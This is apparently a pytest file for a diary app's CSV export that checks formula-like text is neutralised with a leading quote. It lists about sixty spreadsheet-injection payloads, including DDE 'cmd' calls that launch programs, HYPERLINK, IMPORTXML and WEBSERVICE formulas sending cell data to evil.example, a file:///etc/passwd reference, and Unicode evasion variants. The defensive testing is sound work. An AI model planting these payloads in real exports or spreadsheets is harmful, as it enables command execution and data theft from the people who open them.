"""Texts in a table: whatever they begin with, no spreadsheet takes them for a formula."""

import csv
import io

import pytest

from diary.export.cells import cell

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|'/C calc'!A0",
    "==1",
    "='file:///etc/passwd'#$passwd.A1",
    "+1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+SUM(1,1)",
    "+49 30 1234",
    "-1",
    "-2+3+cmd|'/C calc'!A0",
    "- walked ten minutes",
    "--1",
    "-A1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\tnote",
    "\t",
    "\r=1+1",
    "\rnote",
    "\r\n=1+1",
    "\n=1+1",
    "\n\n+1",
    "note\n=1+1",
    "note\r=1+1",
    "note\r\n-1",
    "note\n@A1",
    "note\n\t=1",
    "note\v=1+1",
    "note\f=1+1",
    "note\x85=1+1",
    "note\u2028=1+1",
    "note\u2029+1",
    " =1+1",
    "   -1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2060@A1",
    "\x01=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\uff1b=1",
    "\ufe66 1",
    "\u22121",
    ";=1+1",
    "'=1+1",
    "'",
]
HARMLESS = [
    "",
    "pain 3-4",
    "a=b",
    "a@b.example",
    "1-2",
    "5",
    "note, with, commas",
    'she said "no"',
    '","=1+1,"',
    '"=1+1"',
    "two\nlines",
    "two\r\nlines",
    "\u0131\u015f\u0131k \u2014 \u4eca\u5929\u8170\u75bc",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "#REF!",
    "100 %",
]


def through_a_file(value: object) -> tuple[str, str]:
    """A cell as it stands in a file, and as a reader of the file gets it back."""
    lines = io.StringIO(newline="")
    table = csv.writer(lines, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    table.writerow([1, cell(value), 2])
    raw = lines.getvalue().removeprefix("1,").removesuffix(",2\r\n")
    ((_, read, _),) = csv.reader(io.StringIO(lines.getvalue(), newline=""), strict=True)
    return raw, read


def test_there_are_sixty_of_them() -> None:
    assert len(set(FORMULAS)) == len(FORMULAS) >= 60


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_could_be_a_formula_is_a_text_in_quotes(text: str) -> None:
    raw, read = through_a_file(text)
    assert raw.startswith("\"'")
    assert read == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_any_other_text_comes_back_as_it_was(text: str) -> None:
    raw, read = through_a_file(text)
    assert (raw[0], read) == ('"', text)


@pytest.mark.parametrize("number", [-3, 0, 10, 10**12, -0.5, 2.25])
def test_numbers_stay_numbers(number: float) -> None:
    assert through_a_file(number) == (repr(number), repr(number))


@pytest.mark.parametrize(
    ("value", "read"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        ([], "[]"),
        (["=1"], '["=1"]'),
        ({"a": "\u00fc"}, '{"a": "\u00fc"}'),
    ],
)
def test_what_is_no_text_and_no_number_has_one_spelling(value: object, read: str) -> None:
    assert through_a_file(value)[1] == read
